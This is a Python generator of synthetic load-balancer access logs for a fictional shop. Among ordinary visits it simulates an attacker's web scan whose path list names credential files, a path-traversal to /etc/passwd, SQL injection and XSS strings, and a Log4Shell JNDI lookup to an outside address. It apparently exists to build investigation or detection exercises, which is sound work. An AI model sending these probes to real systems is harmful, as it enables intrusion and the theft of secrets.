"""Access log of the shop's Application Load Balancer: an object for each of its two nodes."""

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta

from samples.generator import story
from samples.generator.dice import Dice
from samples.generator.objects import LogObject, by_slice, stamp, text_object
from samples.generator.story import DOMAIN, RECORDED, REGION, SHOP, Host

BALANCER = "app/shop/50dc6c495c0c9188"
TARGET_GROUP = f"arn:aws:elasticloadbalancing:{REGION}:{SHOP}:targetgroup/shop-web/73e2d6bc24d8a067"
CERTIFICATE = f"arn:aws:acm:{REGION}:{SHOP}:certificate/3f7a1c9e-5b2d-4e80-9a6c-7d1e2f3a4b5c"
EVERY = timedelta(minutes=20)
VISITS, SCANNED = 420, 400

_KHTML = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0.0.0"
_SAFARI = "AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3"
AGENTS = {
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_KHTML} Safari/537.36": 9,
    f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) {_SAFARI} Mobile/15E148 Safari/604.1": 7,
    f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {_SAFARI} Safari/605.1.15": 4,
    f"Mozilla/5.0 (Linux; Android 10; K) {_KHTML} Mobile Safari/537.36": 5,
    "Mozilla/5.0 (X11; Linux x86_64; rv:136.0) Gecko/20100101 Firefox/136.0": 2,
}
SCANNER = "Mozilla/5.0 (compatible; example-scanner/2.4)"
HEALTH = "example-monitor/1.9"
OK = 200
SMALL = "abcdefghijklmnopqrstuvwxyz0123456789"
PAGES = tuple(
    """/ /search?q=lamp /search?q=desk+chair /category/lighting /category/chairs?page=2 /item/10482 /item/10733
    /item/11015?ref=home /about /basket""".split()
)
PARTS = ("/static/app.3f9c.js", "/static/site.81d0.css", "/static/logo.svg", "/favicon.ico")
SCAN_PATHS = tuple(
    """/.env /.git/config /.git/HEAD /.aws/credentials /.svn/entries /.DS_Store /wp-login.php /wp-config.php.bak
    /xmlrpc.php /phpinfo.php /info.php /admin/ /admin/login /administrator/index.php /phpmyadmin/index.php
    /server-status /actuator/env /actuator/health /api/swagger.json /v2/api-docs /console/ /manager/html
    /solr/admin/info/system /cgi-bin/test.cgi /config.json /config.php.old /db.sql /dump.sql.gz /backup.zip
    /backup.tar.gz /backup/ /backup/db.sql /.htpasswd /id_rsa /docker-compose.yml /Dockerfile /package.json
    /index.php?page=../../../../etc/passwd /download?file=..%2f..%2f..%2fetc%2fpasswd /search?q=%27%20OR%20%271%27=%271
    /search?q=%3Cscript%3Ealert(1)%3C/script%3E /?x=${jndi:ldap://203.0.113.200/a} /telescope/requests
    /.vscode/sftp.json""".split()
)
SCAN_FOLDERS = ("", "/api", "/blog", "/new", "/old", "/test", "/dev", "/shop", "/app", "/static")
REFUSED = ("/admin", "/server-status", "/manager")


@dataclass(frozen=True, slots=True)
class Request:
    """One request as the balancer saw it; `status` of the target, None if the balancer itself answered."""

    time: datetime
    node: Host
    client: str
    port: int
    method: str
    path: str
    status: int | None
    agent: str
    sent: int
    elb_status: int = 0


def objects() -> Iterator[LogObject]:
    """Yield both nodes' objects."""
    dice = Dice("alb")
    requests = all_requests(dice)
    place = f"AWSLogs/{SHOP}/elasticloadbalancing/{REGION}"
    name = f"{SHOP}_elasticloadbalancing_{REGION}_{BALANCER.replace('/', '.')}"
    for node in (story.BALANCER_1, story.BALANCER_2):
        own = [request for request in requests if request.node is node]
        for end, some in by_slice(own, lambda request: request.time, EVERY):
            file = f"{name}_{stamp(end)}_{node.public_address}_{dice.letters(8, SMALL)}.log.gz"
            yield text_object("alb", f"{place}/{end:%Y/%m/%d}/{file}", [_line(dice, request) for request in some])


def all_requests(dice: Dice) -> list[Request]:
    """Return what both nodes saw; the same for the same dice."""
    return [*_visits(dice), *_monitoring(dice), *_web_scan(dice), *_oddities(dice)]


def _node(dice: Dice) -> Host:
    return dice.pick({story.BALANCER_1: 6, story.BALANCER_2: 4})


def _visits(dice: Dice) -> Iterator[Request]:
    """Yield customers' visits: a page with its parts, sometimes an order."""
    for begin in dice.moments(RECORDED.start, RECORDED.end - timedelta(seconds=20), VISITS):
        time, client, agent = begin, dice.choice(story.CUSTOMERS), dice.pick(AGENTS)
        node, port = _node(dice), dice.port()
        for path in (dice.choice(PAGES), *dice.some(PARTS, 0, 2), *dice.pick({(): 11, ("/checkout",): 1})):
            time += timedelta(milliseconds=dice.randrange(20, 900))
            method, status = "GET", dice.pick({200: 40, 304: 9, 302: 1, 404: 1, 500: 1})
            if path == "/checkout":
                method, status = "POST", 303
            yield Request(time, node, client, port, method, path, status, agent, dice.randrange(420, 24_000))


def _monitoring(dice: Dice) -> Iterator[Request]:
    step = timedelta(minutes=2)
    for number in range(RECORDED.length // step):
        time = RECORDED.start + number * step + timedelta(seconds=7, milliseconds=dice.randrange(900))
        yield Request(time, story.BALANCER_1, story.MONITORING, dice.port(), "GET", "/healthz", OK, HEALTH, 187)


def _web_scan(dice: Dice) -> Iterator[Request]:
    """Yield the attacker's requests, in the order of a word list; one of them is answered."""
    paths = [folder + path for folder in SCAN_FOLDERS for path in SCAN_PATHS][: SCANNED - 1]
    port, node, scan = dice.port(), story.BALANCER_1, story.WEB_SCAN
    for number, path in enumerate(paths):
        if number % 25 == 0:
            port = dice.port()
        time = scan.start + scan.length * number // len(paths) + timedelta(milliseconds=dice.randrange(400))
        status = 403 if path.startswith(REFUSED) else dice.pick({404: 30, 400: 1})
        yield Request(time, node, story.ATTACKER, port, "GET", path, status, SCANNER, 351)
    yield Request(story.KEY_FOUND, node, story.ATTACKER, port, "GET", story.LEAKED_FILE, OK, SCANNER, 1412)


def _oddities(dice: Dice) -> Iterator[Request]:
    """Yield requests that no target answered: malformed, too slow, given up by the client."""
    for time in dice.moments(RECORDED.start, RECORDED.end, 24):
        yield Request(time, _node(dice), dice.choice(story.NOISE), dice.port(), "-", "-", None, "-", 272, 400)
    for time in dice.moments(RECORDED.start, RECORDED.end, 14):
        client, port, agent = dice.choice(story.CUSTOMERS), dice.port(), dice.pick(AGENTS)
        status = dice.pick({460: 2, 504: 1, 502: 1})
        yield Request(time, _node(dice), client, port, "GET", "/search?q=lamp", None, agent, 0, status)


def _line(dice: Dice, request: Request) -> str:
    """Return the 33 columns of a line."""
    answered, malformed = request.status is not None, request.method == "-"
    took = dice.randrange(1, 240)
    created = request.time - timedelta(milliseconds=took + 1)
    target = f"{dice.choice((story.WEB_1, story.WEB_2)).address}:8080" if answered else "-"
    times = f"0.00{dice.randrange(10)} 0.{took:03d} 0.000" if answered else "-1 -1 -1"
    status, seen = request.status or request.elb_status, request.status or "-"
    client = f"[{request.client}]" if ":" in request.client else request.client
    trace = f'"Root=1-{int(created.timestamp()):08x}-{dice.hex(24)}"'
    if malformed:
        kind, what = "https", f"- https://{DOMAIN}:443- -"
        rule = f'- {trace} "-" "-" - {_iso(created)} "-"'
    else:
        kind, what = "h2", f"{request.method} https://{DOMAIN}:443{request.path} HTTP/2.0"
        rule = f'{TARGET_GROUP} {trace} "{DOMAIN}" "{CERTIFICATE}" 0 {_iso(created)} "waf,forward"'
    return " ".join(
        (
            f"{kind} {_iso(request.time)} {BALANCER} {client}:{request.port} {target} {times}",
            f'{status} {seen} {dice.randrange(38, 900)} {request.sent} "{what}" "{request.agent}"',
            f'TLS_AES_128_GCM_SHA256 TLSv1.3 {rule} "-" "-"',
            f'"{target}" "{seen}" "-" "-" TID_{dice.hex(32)} "-" "-" "-"',
        )
    )


def _iso(moment: datetime) -> str:
    return f"{moment:%Y-%m-%dT%H:%M:%S.%f}Z"
